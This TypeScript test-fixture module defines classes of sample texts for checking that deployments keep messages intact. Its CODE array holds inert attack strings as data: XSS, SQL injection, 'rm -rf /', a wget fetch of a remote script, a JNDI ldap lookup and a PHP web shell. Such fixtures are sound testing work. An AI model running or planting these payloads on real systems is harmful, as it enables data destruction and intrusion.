// Texts as people and programs really send them, by class: the one source of texts for all checks. Each text begins with a
// unique word, so that it can be searched for and is not read as a command.
import { tidied } from "../text/text-difference.ts";

export interface TextClass {
  readonly name: string;
  /** The characters that make a text one of this class. */
  readonly pieces: readonly string[];
  /** Found in each text of this class, and in few others. */
  readonly mark: RegExp;
  /** A text of this class. */
  readonly around: (word: string) => string;
  /** Any deployment takes it and gives its words back. Of the others it may trim the ends and unify line ends as well. */
  readonly isPlain?: true;
}

/** Up to this length a text must be accepted; beyond it a deployment may have an unknown limit. */
export const SURELY_ACCEPTED = 1_000;

/** Whether no deployment may refuse a text for itself. */
export const isSurelyAccepted = (text: string, { isPlain }: Pick<TextClass, "isPlain">): boolean =>
  isPlain === true && text.length <= SURELY_ACCEPTED;

const unusual = (name: string, mark: RegExp, ...pieces: readonly string[]): TextClass => ({
  name,
  mark,
  pieces,
  around: (word) => `${word} ${pieces.join(" ")}`,
});

const plain = (...[name, mark, ...pieces]: Parameters<typeof unusual>): TextClass => ({
  ...unusual(name, mark, ...pieces),
  isPlain: true,
});

/** A text that does not go on after its word with a blank. */
const without = (one: TextClass): TextClass => ({ ...one, around: (word) => word + one.pieces.join("") });

/** As people quote it to one another, and as attacks have it: a filter for attacks takes the one for the other. */
const CODE = [
  "that <script>alert('hi')</script> runs",
  "SELECT * FROM users WHERE id = '1' OR 1=1 -- UNION SELECT name, password FROM admins;",
  "cat ../../../etc/passwd | sh; rm -rf / && wget http://links.example/a.sh",
  "$\u007bjndi:ldap://links.example/a} {{7*7}} <%=7*7%>",
  "an <img src=x onerror=alert(1)> and <a href='javascript:void(0)'>",
  "then <?php system($_GET['c']);?> or C:\\Windows\\System32\\cmd.exe /c dir %00 ../..",
] as const;

export const textClasses: readonly TextClass[] = [
  plain("plain words", /^[\w-]+(?: [A-Za-z]+)+\.?$/, "and some plain words."),
  without(plain("one word", /^[\w-]+$/, "")),
  plain("Markdown", /\*\*|~~/, "**bold**", "_slanted_", "`code`", "~~gone~~"),
  plain("links", /\]\(https?:/, "[a link](https://links.example/a?b=1&c=2)"),
  plain(
    "other scripts",
    /\p{Script=Han}|\p{Script=Thai}|\p{Script=Cyrillic}/u,
    "Привет",
    "漢字",
    "ไทย",
    "Straße",
    "ñ",
    "ΩΔΨ",
  ),
  plain("right to left", /\p{Script=Hebrew}|\p{Script=Arabic}/u, "שלום", "مرحبا", "(abc)"),
  plain("letters beyond the basic plane", /[\u{10400}-\u{1044f}\u{20000}-\u{2ffff}]/u, "𠀀𠀁", "𐐷𐐶"),
  plain("number-like", /(?:^| )(?:0\d+|\d+e\d+|-0)(?: |$)/, "007", "1e9", "0x1F", "3.140", "-0"),
  plain("null-like", /(?:^| )(?:null|undefined|NaN)(?: |$)/, "null", "undefined", "NaN", "true", "None"),
  plain("several blanks", /\w {2}\w/, "two  blanks", "three   of   them"),
  plain("long", /^.{1000}/s, "All work and no play makes Jack a dull boy. ".repeat(30).trim()),
  unusual("trailing blanks", / $/, "ends with blanks   "),
  without(unusual("lines", /\n/, "\n\nsecond line\n  third, indented\n\n\nlast")),
  without(unusual("CRLF", /\r\n/, "\r\nsecond line\r\n")),
  without(unusual("bare CR", /\r(?!\n)/, "\rsecond line\rthird")),
  without(unusual("tabs", /\t/, "\tone\ttwo")),
  unusual(
    "emoji",
    /\p{Extended_Pictographic}|\p{Regional_Indicator}/u,
    "🙂",
    "👩‍👩‍👧‍👦",
    "🇩🇪",
    "👍🏽",
    "\u2764\ufe0e",
    "1\ufe0f\u20e3",
  ),
  unusual(
    "combining marks",
    /\p{M}|[\u212bﬁ\uff00-\uffef\u{1d400}-\u{1d7ff}]/u,
    "e\u0301",
    "a\u0308",
    "\u212b",
    "ﬁ",
    "ｆｕｌｌ",
    "𝒳",
    "İ",
    "नमस्ते",
  ),
  unusual(
    "invisible characters",
    /[\u00a0\u200b\u2028\u2029]/,
    "a\u00a0b",
    "a\u200bb",
    "a\u200cb",
    "a\u2060b",
    "a\ufeffb",
    "a\u00adb",
    "a\u2028b",
    "a\u2029b",
    // They say in which direction a line is written.
    "\u061c\u200e\u200fa\u202ab\u202c\u202e\u202c\u2067c\u2069\u2066\u2069",
    // They say which of its forms a letter has, and make the flag of Scotland of a black one.
    "葛\u{e0100}",
    "\u{1f3f4}\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}",
  ),
  unusual(
    "escapes",
    /\\[nu]|&amp;|\{\{/,
    "\\",
    "\\\\",
    '\\"',
    "\\'",
    "\\0",
    "\\n",
    "\\u0041",
    "%20",
    "&amp;",
    "{{name}}",
    "$1",
    "$$",
    "$&",
    "$\u007ba}",
    "%s",
    "%d",
  ),
  unusual("Markdown escapes", /\\[*_`[]/, "\\*one\\*", "\\_two\\_", "\\`three\\`", "\\[four](five)"),
  unusual("quotes", /"/, '"double"', "'single'", "`back`", "«angle»", "it's"),
  unusual("markup", /<\w+>|<!--/, "a < b & c > d", "<b>bold</b>", "<!-- gone -->"),
  unusual("shortcodes", /:tada:/, ":tada:", ":smile:", ":+1:", ":-)", ";-)", ":D", "<3", "(y)"),
  unusual(
    "typewriter signs",
    /\(tm\)/,
    ...["(c)", "(r)", "(tm)", "...", "--", "---", "->", "<=>", "!=", "+/-", "1/2", "1st", "10 x 20"],
  ),
  unusual("quoted code", /<script>|\.\.\/\.\./, ...CODE),
  unusual(
    "a web address",
    /https?:\/\/\S+[@!$'*,;]/,
    "https://links.example/a%20b/:@!$&'()*+,;=-._~/?q=c+d&e=f;g#h(i)[j]",
  ),
  without(
    unusual(
      "Markdown in other spellings",
      /\n=====\n/,
      "\n\nTitle\n=====\n\n* one\n\n1) two\n\n***\n\n__bold__ *slanted*  \nbreak\n\n- [ ] to do\n\n",
      "~~~\ncode\n~~~\n\n&nbsp;<br>",
    ),
  ),
  without(
    unusual(
      "a mail",
      /\n-- \r?\n/,
      "\n\nThanks,\nAda\n\n-- \nAda Park, Support\nSent from my phone\n\n",
      "On Friday at 10:30, Bo Lang <bo@links.example> wrote:\n> It works.\n>> When?\n\n{{customer.name}} #4711",
    ),
  ),
  without(unusual("a code block", /```/, '\n```ts\nconst a = "@someone <@1>";\n```')),
  without(
    unusual(
      "blocks",
      /\n(?:\||- |> |---)/,
      "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n  - two\n\n---\n\n> said",
    ),
  ),
];

export const textClass = (name: string | undefined): TextClass => {
  const found = textClasses.find((one) => one.name === name) ?? textClasses[0];
  if (found === undefined) throw new Error("textClass: no classes");
  return found;
};

/** Of any of the classes. */
export const piecesOf = (...names: readonly string[]): readonly string[] =>
  names.flatMap((name) => textClass(name).pieces);

/** Whole texts that a program may take for something else than a text. */
export const wordTexts = ["null", "undefined", "false", "0", "-1", "[]", "{}", "NaN", "true"] as const;

/** Whole texts without a letter, and such as look like a command or like data. */
const signTexts = [
  "?",
  "...",
  "+1",
  "/tmp is full",
  '{"error": "timeout", "retries": 3}',
  '["a", 1]',
  '"said"',
];

/** Those, and whole texts that a program may write in its own way. */
export const wholeTexts: readonly (Pick<TextClass, "isPlain"> & { readonly text: string })[] = [
  ...[
    ...[
      ...wordTexts,
      ...signTexts,
      "007",
      "20261127",
      "9007199254740993",
      "1e9",
      "1.50",
      "12:30",
      "10:30:45",
      "2024-02-30",
      "2026-11-27",
      "2026-11-27T10:30:45+01:00",
      "2026-11-27T10:30:45.5Z",
      "Fri, 27 Nov 2026 10:30:45 +0100",
      "27/11/2026",
      "1,234.50",
      "+49 170 0123456",
      "no",
      "links.example",
      "Ω",
    ],
    ...["https://links.example", "HTTPS://Links.Example/A/../b", "http://links.example:80/?a=%7E"],
  ].map((text) => ({ text, isPlain: true }) as const),
  ...["🙂", "👍🏽", "  padded  ", "\ttabbed\n", ...CODE].map((text) => ({ text })),
];

/** All texts that a server may change, in one: each way of writing loses some of it in its own manner. */
export const mixedText: TextClass = {
  ...unusual("a mixed text", /\r\n {2}indented/),
  around: (word) =>
    [
      word,
      piecesOf("number-like", "null-like", "other scripts", "right to left").join(" "),
      piecesOf("letters beyond the basic plane", "combining marks", "emoji", "Markdown").join("\t"),
      piecesOf("escapes", "quotes", "markup", "a web address").join(" "),
      "",
      "  indented, and blanks at the ends of lines  ",
      "and of the text   ",
    ].join("\r\n"),
};

/** A line that any deployment takes and gives back as it is. */
export const mixedLine: TextClass = plain(
  "a mixed line",
  /\w {2}\w.*(?:^| )0\d/s,
  piecesOf("several blanks", "number-like", "null-like", "Markdown", "links").join(" "),
  piecesOf("other scripts", "right to left", "letters beyond the basic plane").join("  "),
);

/** The marks in a line of text beside words: punctuation and common Markdown. */
export const lineMarks: readonly string[] = [
  ...piecesOf("Markdown", "links"),
  ...[
    "*",
    "# heading",
    "- item",
    "1. first",
    "> quoted",
    "| a | b |",
    "---",
    "(brackets)",
    "!",
    "?",
    ".",
    ",",
    ";",
  ],
  ...["https://links.example/path", "snake_case_name", "2 * 3 * 4", "50%", "a+b=c", "end."],
  ...["10:30:45", "src/main.ts:42:7", "urn:isbn:0451450523", "2001:db8::1"],
  ...["www.links.example", "someone@mails.example"],
];

const USUAL: ReadonlySet<string> = new Set([
  ...["one word", "other scripts", "letters beyond the basic plane", "number-like", "null-like", "long"],
]);

/** Texts for messages whose text does not matter: of one line, without anything that could be taken for markup. */
export const usualTexts: readonly TextClass[] = textClasses.filter(({ name }) => USUAL.has(name));

/** Whether a shown text is the sent one, as far as a deployment must keep it. */
export function isSameText(sent: string, shown: string, { isPlain }: Pick<TextClass, "isPlain">): boolean {
  if (sent === shown) return true;
  return isPlain !== true && tidied(sent) === tidied(shown);
}

/** The same where others may stand in one text with it: a plain one is in there. */
export const holdsText = (sent: string, shown: string, kind: Pick<TextClass, "isPlain">): boolean =>
  isSameText(sent, shown, kind) || (kind.isPlain === true && shown.includes(sent));

/** Letters and digits between blanks, and the digits of times, of which no other form exists: what is neither a mark nor a part of one. A slash begins no mark. */
const wordsOf = (text: string): readonly string[] =>
  text
    .replace(/^\//, "")
    .split(/\s+/)
    .flatMap((word) => (/^\d+(?::\d+)+$/.test(word) ? word.split(":") : [word]))
    .filter((word) => /^[\p{L}\p{N}]+$/u.test(word) && word.normalize("NFKC") === word);

/** Whether a shown text has the words of the sent one, in their order, with any marks and blanks. */
export function holdsWords(shown: string, sent: string): boolean {
  const found: readonly string[] = shown.match(/[\p{L}\p{N}\p{M}]+/gu) ?? [];
  let next = 0;
  return wordsOf(sent).every((word) => {
    next = found.indexOf(word, next) + 1;
    return next > 0;
  });
}

/** Collations that give such letters no weight take any two of them for the same. */
export const BEYOND_THE_BASIC_PLANE = "letters beyond the basic plane";

/** Pairs of texts that a server may treat as equal, but that are different. */
export const similarTexts: readonly (readonly [what: string, one: string, other: string])[] = [
  ["the same letter in other characters", "caf\u00e9", "caf\u0065\u0301"],
  ["line ends", "one\r\ntwo", "one\ntwo"],
  ["a carriage return and a line end", "one\rtwo", "one\ntwo"],
  ["blanks at the end", "end  ", "end"],
  ["a tab and a blank", "one\ttwo", "one two"],
  ["two blanks and one", "one  two", "one two"],
  ["a blank that does not break and one that does", "one\u00a0two", "one two"],
  ["a character that is not seen", "one\u200btwo", "onetwo"],
  ["the case of a letter", "Word", "word"],
  ["leading zeros", "no 007", "no 7"],
  ["blank lines", "one\n\n\ntwo", "one\n\ntwo"],
  ["an escape and what it stands for", "a &amp; b", "a & b"],
  [BEYOND_THE_BASIC_PLANE, "go 🚀", "go 🌍"],
];
